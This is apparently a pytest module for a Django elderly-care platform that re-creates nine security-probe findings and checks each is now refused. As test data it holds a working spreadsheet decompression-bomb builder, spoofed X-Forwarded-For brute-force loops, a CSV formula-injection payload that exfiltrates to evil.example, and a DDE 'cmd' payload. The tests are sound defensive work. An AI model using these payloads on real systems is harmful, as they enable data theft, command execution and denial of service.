"""The probe of the demo (issue 19): each of its nine findings reproduced as it was found
(the same request, the same kind of file) and now answered safely. Broader checks of the
same classes live beside this module: the at-rest scan of a demo build (test_at_rest), the
schemathesis run over every operation (tests/api), the scope matrix."""

from __future__ import annotations

import csv
import datetime
import io
import json
import os
import re
import resource
import subprocess
import sys
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.cache import cache
from django.test import Client
from openpyxl import Workbook

from tests.conftest import World, login
from tests.factories import PASSWORD
from yiyang.core.cells import looks_like_formula, safe_cell
from yiyang.core.models import AuditEvent
from yiyang.core.permissions import Permission, Role
from yiyang.elders import importing
from yiyang.elders.choices import ImportStatus
from yiyang.elders.tabular import UnreadableFile, open_table

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"查看详情")'
MB = 1024 * 1024
ID = "419102194003150014"


# --- Finding 1: a small spreadsheet exhausts memory --------------------------------------


@pytest.fixture(scope="module")
def bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An ordinary-looking .xlsx of about 1.2 MB whose sheet unpacks to 300 MB of XML (the
    probe's was 1.69 MB holding 600 MB; the same construction: one row repeated)."""
    folder = tmp_path_factory.mktemp("bomb")
    small = folder / "small.xlsx"
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["姓名", "身份证号码", "所属社区"])
    workbook.save(small)
    row = (
        b'<row r="2"><c r="A2" t="inlineStr"><is><t>AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA</t></is></c>'
        b'<c r="B2" t="inlineStr"><is><t>BBBBBBBBBBBBBBBBBBBBBBBB</t></is></c></row>'
    ) * 8000
    path = folder / "elders.xlsx"
    with zipfile.ZipFile(small) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename != "xl/worksheets/sheet1.xml":
                out.writestr(item, data)
                continue
            head, tail = data.split(b"</sheetData>")
            info = zipfile.ZipInfo(item.filename)
            info.compress_type = zipfile.ZIP_DEFLATED
            with out.open(info, "w", force_zip64=True) as stream:
                stream.write(head)
                written = 0
                while written < 300 * MB:
                    stream.write(row)
                    written += len(row)
                stream.write(b"</sheetData>" + tail)
    return path


def _peak_rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def test_finding1_a_spreadsheet_bomb_is_refused_within_100_mb(bomb: Path) -> None:
    assert bomb.stat().st_size < 2 * MB
    with zipfile.ZipFile(bomb) as archive:
        assert archive.getinfo("xl/worksheets/sheet1.xml").file_size > 300 * MB
    rss_before = _peak_rss_mb()
    tracemalloc.start()
    try:
        with pytest.raises(UnreadableFile) as refused:
            open_table(bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "xl/worksheets/sheet1.xml" in str(refused.value)
    assert peak < 100 * MB
    assert _peak_rss_mb() - rss_before < 100


def test_finding1_a_bomb_that_lies_about_its_size_is_refused_too(
    bomb: Path, tmp_path: Path
) -> None:
    """The same bomb with the sheet's declared size rewritten to 1,000 bytes in both headers:
    the archive check believes it, the streaming read does not (it stops at the declared size
    and the checksum fails), so the sheet is never unpacked whole."""
    data = bytearray(bomb.read_bytes())
    with zipfile.ZipFile(bomb) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    name = info.filename.encode()
    local = info.header_offset
    assert data[local : local + 4] == b"PK\x03\x04"
    data[local + 22 : local + 26] = (1000).to_bytes(4, "little")
    central = data.rfind(b"PK\x01\x02", 0, data.rfind(name))
    data[central + 24 : central + 28] = (1000).to_bytes(4, "little")
    liar = tmp_path / "liar.xlsx"
    liar.write_bytes(bytes(data))
    rss_before = _peak_rss_mb()
    with pytest.raises(UnreadableFile, match="CRC"):
        open_table(liar)
    assert _peak_rss_mb() - rss_before < 100


def test_finding1_the_bomb_uploaded_as_an_import_fails_with_the_message(
    world: World, bomb: Path
) -> None:
    actor = world.user["city_admin"]
    job = importing.import_job_create(
        actor=actor, filename="elders.xlsx", content=bomb.read_bytes()
    )
    job = importing.import_job_run(job=job, actor=actor)
    assert job.status == ImportStatus.FAILED
    assert "xl/worksheets/sheet1.xml" in job.message
    assert job.processed_rows == 0


def test_finding1_limits_on_unpacked_size_rows_and_cells_come_from_settings(
    tmp_path: Path, settings: object
) -> None:
    path = tmp_path / "a.xlsx"
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["姓名", "身份证号码", "所属社区"])
    for n in range(40):
        sheet.append([f"老人{n}", ID, "1"])
    workbook.save(path)
    settings.IMPORT_MAX_ROWS = 20  # type: ignore[attr-defined]
    with pytest.raises(UnreadableFile, match="41"):
        open_table(path)
    settings.IMPORT_MAX_ROWS = 1000  # type: ignore[attr-defined]
    settings.IMPORT_MAX_CELLS = 100  # type: ignore[attr-defined]
    with pytest.raises(UnreadableFile, match="100"):
        open_table(path)
    settings.IMPORT_MAX_CELLS = 10_000  # type: ignore[attr-defined]
    settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 10_000  # type: ignore[attr-defined]
    with pytest.raises(UnreadableFile, match="MB"):
        open_table(path)


def test_finding1_a_cell_at_the_far_corner_is_refused(tmp_path: Path) -> None:
    """One cell at XFD1000000 would make the reader hold a 16-billion-cell rectangle."""
    path = tmp_path / "a.xlsx"
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["姓名", "身份证号码", "所属社区"])
    sheet["XFD100000"] = "x"
    workbook.save(path)
    with pytest.raises(UnreadableFile, match="16384"):
        open_table(path)


def test_finding1_the_error_report_says_when_it_is_truncated(
    world: World, tmp_path: Path, settings: object
) -> None:
    settings.IMPORT_REPORT_LIMIT = 3  # type: ignore[attr-defined]
    path = tmp_path / "bad.csv"
    lines = ["姓名,身份证号码,所属社区"] + [
        f"老人{n},not-an-id,{world.div['XA1a'].code}" for n in range(8)
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    actor = world.user["city_admin"]
    job = importing.import_job_create(actor=actor, filename="bad.csv", content=path.read_bytes())
    job = importing.import_job_run(job=job, actor=actor)
    assert (job.status, job.rejected_count) == (ImportStatus.DONE, 8)
    assert [e.row for e in importing.import_job_errors(job)] == [2, 3, 4]
    note = importing.truncation_note(3, 5)
    assert note in job.warnings
    report = importing.error_report_xlsx(job)
    assert note.encode() in _sheet_xml(report)


def _sheet_xml(xlsx: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/")]
        return b"".join(archive.read(n) for n in names)


def _grow_and_exit() -> None:
    block = bytearray(300 * MB)
    block[::4096] = b"x" * len(block[::4096])


def test_finding1_an_import_in_a_child_process_gives_its_memory_back() -> None:
    from yiyang.elders.tasks import run_in_child

    def current_rss_mb() -> float:
        with open(f"/proc/{os.getpid()}/statm") as statm:
            return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") / MB

    before = current_rss_mb()
    assert run_in_child(_grow_and_exit) == 0
    assert current_rss_mb() - before < 50


# --- Finding 2: password guessing is unlimited ---------------------------------------------


@pytest.fixture
def fresh_cache() -> Iterator[None]:
    cache.clear()
    yield
    cache.clear()


def _token_response(client: Client, username: str, password: str, **extra: str) -> Any:
    return client.post(
        "/api/v1/auth/token/",
        data=json.dumps({"username": username, "password": password}),
        content_type="application/json",
        **extra,  # type: ignore[arg-type]
    )


def _token(client: Client, username: str, password: str, **extra: str) -> int:
    return int(_token_response(client, username, password, **extra).status_code)


def test_finding2_a_fake_forwarded_for_does_not_escape_the_token_throttle(
    world: World, client: Client, settings: object, fresh_cache: None
) -> None:
    settings.TOKEN_THROTTLE_RATE = "20/min"  # type: ignore[attr-defined]
    settings.LOGIN_FAILURE_LIMIT_PER_ADDRESS = 1000  # type: ignore[attr-defined]  # throttle only
    responses = [
        _token_response(client, f"nobody{n}", "Guess-2026!", HTTP_X_FORWARDED_FOR=f"203.0.113.{n}")
        for n in range(25)
    ]
    assert [r.status_code for r in responses] == [401] * 20 + [429] * 5
    assert [r.has_header("Retry-After") for r in responses[19:]] == [False] + [True] * 5
    assert settings.REST_FRAMEWORK["NUM_PROXIES"] == 0  # type: ignore[attr-defined]


def test_finding2_one_password_sprayed_over_many_usernames_is_locked(
    world: World, client: Client
) -> None:
    limit = settings.LOGIN_FAILURE_LIMIT_PER_ADDRESS
    statuses = [_token(client, f"staff{n:03d}", "Yiyang-2026!") for n in range(limit + 3)]
    assert statuses[: limit - 1] == [401] * (limit - 1)
    assert set(statuses[limit:]) == {429}
    # The address is locked for every account, the right password included.
    assert _token(client, "street_officer", PASSWORD) == 429
    page = client.post("/accounts/login/", {"username": "assessor", "password": PASSWORD})
    assert page.status_code == 429


def test_finding2_one_username_guessed_from_many_addresses_is_locked(
    world: World, client: Client, settings: object
) -> None:
    settings.PROXY_COUNT = 1  # type: ignore[attr-defined]
    limit = settings.LOGIN_FAILURE_LIMIT_PER_USERNAME  # type: ignore[attr-defined]
    statuses = [
        _token(client, "street_officer", f"guess-{n}", HTTP_X_FORWARDED_FOR=f"198.51.100.{n}")
        for n in range(limit + 1)
    ]
    assert statuses[: limit - 1] == [401] * (limit - 1)
    assert statuses[-1] == 429
    fresh = _token(client, "street_officer", PASSWORD, HTTP_X_FORWARDED_FOR="192.0.2.200")
    assert fresh == 429


def test_finding2_the_proxy_count_decides_the_address_of_lockouts_and_the_audit_log(
    world: World, client: Client, settings: object
) -> None:
    forwarded = {"HTTP_X_FORWARDED_FOR": "192.0.2.7, 10.0.0.9", "REMOTE_ADDR": "10.0.0.1"}
    _token(client, "street_officer", "wrong-one", **forwarded)
    settings.PROXY_COUNT = 1  # type: ignore[attr-defined]
    _token(client, "street_officer", "wrong-two", **forwarded)
    settings.PROXY_COUNT = 2  # type: ignore[attr-defined]
    _token(client, "street_officer", "wrong-three", **forwarded)
    addresses = list(
        AuditEvent.objects.filter(action="login_failed")
        .order_by("id")
        .values_list("ip_address", flat=True)
    )
    assert addresses == ["10.0.0.1", "10.0.0.9", "192.0.2.7"]
    from axes.models import AccessAttempt

    assert set(AccessAttempt.objects.values_list("ip_address", flat=True)) == {
        "10.0.0.1",
        "10.0.0.9",
        "192.0.2.7",
    }


# --- Finding 4: any JSON endpoint answers 500; the demo shows the debug page ----------------

DEEP = ("[" * 1200 + "]" * 1200).encode()


@pytest.mark.parametrize(
    ("role", "url"),
    [
        (None, "/api/v1/auth/token/"),
        ("assessor", "/api/v1/assessments/preview/"),
        ("community_worker", "/api/v1/risk-events/"),
        ("caregiver", "/api/v1/visits/00000000-0000-4000-8000-000000000000/check-in/"),
    ],
)
def test_finding4_a_body_nested_1200_deep_is_a_400(
    world: World, role: str | None, url: str
) -> None:
    client = login(Client(), world.user[role]) if role else Client()
    response = client.post(url, data=DEEP, content_type="application/json")
    assert response.status_code == 400
    assert "nested more than 32 levels deep" in response.json()["detail"]


def test_finding4_a_deep_device_payload_is_rejected_as_malformed(world: World) -> None:
    from tests.alerts.helpers import bound_device, elder_with_contacts
    from yiyang.devices.services import Inbound, device_messages_store

    device = bound_device(world, elder_with_contacts(world))
    deep = b'{"msg_id":"1","type":"sos","ts":0,"x":' + b"[" * 200 + b"]" * 200 + b"}"
    (outcome,) = device_messages_store(messages=[Inbound(str(device.external_id), deep)]).outcomes
    assert (outcome.status, outcome.reason, outcome.field) == ("rejected", "malformed", "payload")


def test_finding4_the_demo_never_shows_the_debug_page(tmp_path: Path) -> None:
    env = {**os.environ, "YIYANG_MODE": "demo", "YIYANG_VAR_DIR": str(tmp_path)}
    env.pop("DEBUG", None)
    answer = subprocess.run(
        [sys.executable, "-c", "from config import settings; print(settings.DEBUG)"],
        env=env,
        capture_output=True,
        text=True,
        check=True,
        cwd=settings.BASE_DIR,
    )
    assert answer.stdout.strip() == "False"
    page = (Path(settings.BASE_DIR) / "yiyang" / "templates" / "500.html").read_text()
    assert "{{" not in page and "settings" not in page.lower()


# --- Finding 5: CSV formula injection -------------------------------------------------------


def _cells(response: object) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(body)))


def test_finding5_a_hyperlink_username_lands_escaped_in_the_audit_export(
    world: World, client: Client
) -> None:
    client.post("/accounts/login/", {"username": HYPERLINK, "password": "x-x-x-x-x-x"})
    auditor = login(Client(), world.user["auditor"])
    rows = _cells(auditor.get("/audit/export.csv"))
    usernames = [row[1] for row in rows[1:]]
    assert "'" + HYPERLINK in usernames
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


@pytest.mark.parametrize(
    ("url", "role"),
    [
        ("/organisations/export.csv", "city_admin"),
        ("/accounts/users/export.csv", "city_admin"),
        ("/divisions/export.csv", "city_admin"),
    ],
)
def test_finding5_every_csv_export_escapes_formulas(world: World, url: str, role: str) -> None:
    org = world.org["home_care"]
    org.name = "=1+2"
    org.save(update_fields=["name"])
    user = world.user["caregiver"]
    user.first_name = "@SUM(A1)"
    user.save(update_fields=["first_name"])
    division = world.div["XA1a"]
    division.name = "+cmd|' /C calc'!A0"
    division.save(update_fields=["name"])
    rows = _cells(login(Client(), world.user[role]).get(url))
    assert len(rows) > 1
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [
        cell for row in rows for cell in row if cell[:1] == "-" and looks_like_formula(cell)
    ]


def test_finding5_the_escape_rule() -> None:
    assert [
        safe_cell(v) for v in ["=1+2", "+1", "-x", "@a", "\t=1", "\r=1", "＝1", "ok", 5, -5]
    ] == [
        "'=1+2",
        "'+1",
        "'-x",
        "'@a",
        "'\t=1",
        "'\r=1",
        "'＝1",
        "ok",
        5,
        -5,
    ]
    assert [
        looks_like_formula(t) for t in ["=1+2", "-1+2", "+86 138 0013 8000", "-", "-3.5", "@x"]
    ] == [
        True,
        True,
        False,
        False,
        False,
        True,
    ]


def test_finding5_a_csv_import_refuses_a_formula_as_an_address(
    world: World, tmp_path: Path
) -> None:
    path = tmp_path / "a.csv"
    code = world.div["XA1a"].code
    path.write_text(f"姓名,身份证号码,所属社区,地址\n老人,{ID},{code},=1+2\n", encoding="utf-8")
    actor = world.user["city_admin"]
    job = importing.import_job_create(actor=actor, filename="a.csv", content=path.read_bytes())
    job = importing.import_job_run(job=job, actor=actor)
    ((error),) = importing.import_job_errors(job)
    assert (error.row, error.column, error.value) == (2, "地址", "=1+2")
    assert "formula" in error.reason or "公式" in error.reason
    assert job.created_count == 0


# --- Finding 8: no CSP, no no-store, two factors for city admins only -----------------------


def test_finding8_every_response_carries_a_strict_policy_and_personal_data_is_not_stored(
    world: World,
) -> None:
    anonymous = Client().get("/accounts/login/")
    policy = anonymous["Content-Security-Policy"]
    assert "script-src 'self'" in policy and "style-src 'self';" in policy
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
    assert "frame-ancestors 'none'" in policy and "object-src 'none'" in policy
    officer = login(Client(), world.user["district_officer"])
    for url in ("/elders/", "/api/v1/elders/", "/organisations/export.csv", "/"):
        response = officer.get(url)
        assert response.status_code == 200, url
        assert response["Cache-Control"] == "no-store", url
        assert "Content-Security-Policy" in response, url


TEMPLATE_DIRS = sorted({str(p) for p in Path(settings.BASE_DIR, "yiyang").glob("**/templates")})


def test_finding8_no_template_holds_inline_script_or_style() -> None:
    import re

    inline_script = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*application/(ld\+)?json)[^>]*>")
    offenders = []
    for folder in TEMPLATE_DIRS:
        for path in Path(folder).glob("**/*.html"):
            text = path.read_text(encoding="utf-8")
            for pattern in (
                inline_script,
                re.compile(r"\sstyle="),
                re.compile(r"<style\b"),
                re.compile(r"\son[a-z]+=\""),
                re.compile(r"javascript:"),
            ):
                if pattern.search(text):
                    offenders.append(f"{path.relative_to(settings.BASE_DIR)}: {pattern.pattern}")
    assert offenders == []


def test_finding8_two_factors_are_required_for_every_role_reading_unmasked_or_city_wide_data() -> (
    None
):
    """The operators, auditors and district officers the probe named need a second factor
    as the city administrator does; the rule is derived from scope and permissions
    (tests/accounts/test_two_factor_roles.py tests the rule itself)."""
    from yiyang.accounts.choices import two_factor_roles
    from yiyang.accounts.services import role_requires_2fa

    unmasked = (
        set(Permission.SEE_ID_NUMBERS.roles)
        | set(Permission.SEE_PHONES.roles)
        | set(Permission.SEE_HEALTH.roles)
    )
    city_wide = {Role.CITY_ADMIN, Role.OPERATOR, Role.AUDITOR, Role.FINANCE_OFFICER}
    assert {str(r) for r in unmasked | city_wide} <= set(two_factor_roles())
    assert settings.YIYANG_2FA_REQUIRED_ROLES is None  # test mode: production's rule
    assert all(role_requires_2fa(role) for role in unmasked | city_wide)


def test_finding8_an_auditor_without_a_second_factor_reaches_nothing(world: World) -> None:
    client = Client()
    client.force_login(world.user["auditor"])
    assert client.get("/audit/").status_code == 302
    assert client.get("/audit/export.csv").status_code == 302
    assert _token(Client(), "auditor", PASSWORD) == 400


# --- Finding 3: one device vendor can speak for another's devices ------------------------


def test_finding3_a_callback_signed_by_one_vendor_naming_anothers_device_is_refused(
    world: World,
) -> None:
    import time

    from tests.alerts.helpers import bound_device, elder_with_contacts
    from yiyang.alerts.models import Alert
    from yiyang.devices.models import DeviceEvent
    from yiyang.devices.services import callback_signature

    device = bound_device(world, elder_with_contacts(world), vendor="yiyang")
    body = json.dumps(
        {
            "device_id": str(device.external_id),
            "msg_id": "forged-sos",
            "type": "sos",
            "ts": int(time.time()),
        }
    ).encode()
    stamp = str(int(time.time()))
    response = Client().post(
        "/api/v1/device-events/",
        data=body,
        content_type="application/json",
        HTTP_X_YIYANG_VENDOR="anxin",
        HTTP_X_YIYANG_TIMESTAMP=stamp,
        HTTP_X_YIYANG_SIGNATURE=callback_signature("demo-anxin-secret", stamp, body),
    )
    (result,) = response.json()["results"]
    assert (result["status"], result["reason"]) == ("rejected", "wrong_vendor")
    assert not DeviceEvent.objects.exists() and not Alert.objects.exists()


# --- Finding 6: diagnoses reach roles without health access, unlogged ---------------------

from tests.assessments import test_health_access as _health  # noqa: E402

final_with_rules = _health.final_with_rules  # the fixture, shared


@pytest.mark.parametrize("role", ["auditor", "street_officer"])
def test_finding6_applied_rules_name_no_diagnosis_to_roles_without_health_access(
    role: str,
    final_with_rules: Any,
    world: World,
) -> None:
    from yiyang.elders.models import AccessLog

    client = login(Client(), world.user[role])
    url = f"/assessments/{final_with_rules.external_id}/"
    api = client.get(f"/api/v1/assessments/{final_with_rules.external_id}/")
    assert [r["rule"] for r in api.json()["result"]["applied_rules"]] == ["withheld"]
    for response in (api, client.get(url), client.get(f"{url}report/")):
        assert response.status_code == 200
        text = response.content.decode()
        # An ICD-10 code of dementia (F00-F03), not "F0" inside a random CSRF token.
        assert "痴呆" not in text and not re.search(r"(?<![0-9A-Za-z])F0\d", text)
    assert not AccessLog.objects.filter(actor_username=world.user[role].username).exists()


def test_finding6_an_assessor_sees_only_their_own_due_assessments(
    final_with_rules: Any,
    world: World,
) -> None:
    import datetime

    from django.utils import timezone

    from tests.factories import UserFactory
    from yiyang.assessments.models import Assessment

    Assessment.objects.filter(pk=final_with_rules.pk).update(
        valid_until=timezone.localdate() - datetime.timedelta(days=1)
    )
    other = UserFactory(username="assessor_probe", role=Role.ASSESSOR, division=world.div["XA"])
    assert login(Client(), other).get("/api/v1/assessments/due/").json()["count"] == 0
    assert (
        login(Client(), world.user["assessor"]).get("/api/v1/assessments/due/").json()["count"] == 1
    )


# --- Finding 7: health data in plain text at rest -----------------------------------------

from tests.visits import conftest as _visits  # noqa: E402

care = _visits.care  # the fixture, shared

NOTE = "已提醒老人按时服用降压药"
FOUND = "上门时发现老人头晕乏力"


def _raw(table: str, column: str) -> list[str]:
    from django.db import connection

    quote = connection.ops.quote_name
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {quote(column)} FROM {quote(table)}")  # noqa: S608
        return [str(value) for (value,) in cursor.fetchall() if value not in (None, "")]


def test_finding7_visit_notes_alert_details_and_vital_signs_are_sealed_at_rest(
    care: Any,
) -> None:
    from tests.visits.conftest import fix
    from tests.visits.test_services import checked_in
    from yiyang.alerts.models import Alert, VitalsBreach
    from yiyang.alerts.services import alert_raise, device_messages_ingest
    from yiyang.devices.models import DeviceEvent
    from yiyang.devices.services import Inbound
    from yiyang.visits import services as visits

    visit = visits.visit_check_out(
        actor=care.caregiver_user, visit=checked_in(care), fix=fix(), outcome="unwell", notes=NOTE
    )
    alert_raise(
        elder=care.elder,
        kind="found_unwell",
        detail=FOUND,
        source="visit",
        actor=care.world.user["community_worker"],
        dedupe_key="probe-7",
    )
    from tests.alerts.helpers import bound_device

    watch = bound_device(care.world, care.elder, kind="watch")
    now = datetime.datetime.now(datetime.UTC)
    device_messages_ingest(
        messages=[
            Inbound(
                str(watch.external_id),
                json.dumps(
                    {
                        "msg_id": f"hr-{m}",
                        "type": "vitals",
                        "heart_rate": 151,
                        "spo2": 86,
                        "ts": (now - datetime.timedelta(minutes=m)).isoformat(),
                    }
                ).encode(),
            )
            for m in (20, 10, 0)
        ]
    )
    # The application reads them back in clear ...
    visit.refresh_from_db()
    assert visit.notes == NOTE
    assert any(FOUND in a.detail for a in Alert.objects.all())
    assert DeviceEvent.objects.filter(type="vitals").count() == 3
    assert VitalsBreach.objects.exists()
    # ... the database holds none of it in clear.
    stored = {
        ("visits_visit", "notes"): NOTE,
        ("alerts_alert", "detail"): "头晕",
        ("alerts_notification", "message"): "头晕",
        ("devices_deviceevent", "data"): "151",
        ("alerts_vitalsbreach", "last_value"): "151",
        ("core_auditevent", "changes"): "头晕",
    }
    for (table, column), clear in stored.items():
        values = _raw(table, column)
        assert values, f"{table}.{column} was not written"
        assert not [v for v in values if clear in v], f"{table}.{column} holds {clear!r} in clear"


# --- Finding 9: responses that do not match the published schema -------------------------


@pytest.fixture
def wsgi(world: World) -> Iterator[None]:
    """Schemathesis calls the WSGI application in process: keep the test's connection open
    across its requests, as Django's test client does."""
    from tests.inprocess import in_process_requests

    with in_process_requests():
        yield


def _conforms(path: str, user: Any, **parameters: Any) -> Any:
    """Call GET ``path`` as ``user`` and check the answer against docs/openapi.yaml."""
    from tests.api.test_schemathesis import CHECKS, SCHEMA
    from tests.conftest import token_for

    case = SCHEMA[path]["GET"].Case(**parameters)
    response = case.call(headers={"Authorization": f"Token {token_for(user)}"})
    assert response.status_code == 200, response.text[:300]
    case.validate_response(response, checks=CHECKS)
    return response.json()


def test_finding9_unassessed_elders_unvisited_visits_and_lists_match_the_schema(
    care: Any,
    wsgi: None,
) -> None:
    """The probe's drift: ``ability_level ""`` and visit ``outcome ""`` outside their enums,
    ``organisation_detail: null``, bare arrays where the schema says paginated, times
    without offsets against ``format: time``. The same requests now conform."""
    from tests.alerts.helpers import bound_device

    world = care.world
    visit = care.assigned()
    device = bound_device(world, care.elder)
    elder = _conforms(
        "/api/v1/elders/{id}/",
        world.user["city_admin"],
        path_parameters={"id": str(care.elder.external_id)},
    )
    assert elder["ability_level"] != ""
    shown = _conforms(
        "/api/v1/visits/{id}/", care.manager, path_parameters={"id": str(visit.external_id)}
    )
    assert shown["outcome"] != ""
    _conforms("/api/v1/offerings/areas/", care.manager)
    _conforms(
        "/api/v1/visits/{id}/photos/", care.manager, path_parameters={"id": str(visit.external_id)}
    )
    _conforms("/api/v1/visits/review-queue/", world.user["street_officer"])
    _conforms(
        "/api/v1/devices/{id}/bindings/",
        world.user["city_admin"],
        path_parameters={"id": str(device.external_id)},
    )


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/elders/not-an-id/",
        "/api/v1/visits/not-an-id/",
        "/api/v1/devices/not-an-id/",
        "/api/v1/assessments/not-an-id/",
        "/api/v1/orders/not-an-id/",
        "/api/v1/elders/1.5/",
        "/api/v1/visits/00000000-0000-4000-8000-000000000000/",
    ],
)
def test_finding9_a_malformed_or_unknown_id_is_one_answer_everywhere(
    world: World, url: str
) -> None:
    response = login(Client(), world.user["city_admin"]).get(url)
    assert response.status_code == 404
    assert response["Content-Type"].startswith("application/json")


@pytest.mark.parametrize("size", ["junk", "0", "-3", "1.5"])
def test_finding9_a_bad_page_size_is_a_400_naming_it(world: World, size: str) -> None:
    response = login(Client(), world.user["city_admin"]).get(f"/api/v1/elders/?page_size={size}")
    assert response.status_code == 400
    assert "page_size" in response.content.decode()


def test_finding9_the_review_queue_applies_its_documented_filters(care: Any) -> None:
    from tests.visits.conftest import fix
    from tests.visits.test_services import checked_in, metres_north

    far = checked_in(care, lat=metres_north(500))  # flagged out of range: in the queue
    client = login(Client(), care.world.user["street_officer"])
    everything = client.get("/api/v1/visits/review-queue/").json()
    ids = [row["id"] for row in everything["results"]]
    assert str(far.external_id) in ids
    none = client.get("/api/v1/visits/review-queue/?date_from=2000-01-01&date_to=2000-01-02")
    assert none.status_code == 200 and none.json()["results"] == []
    del fix
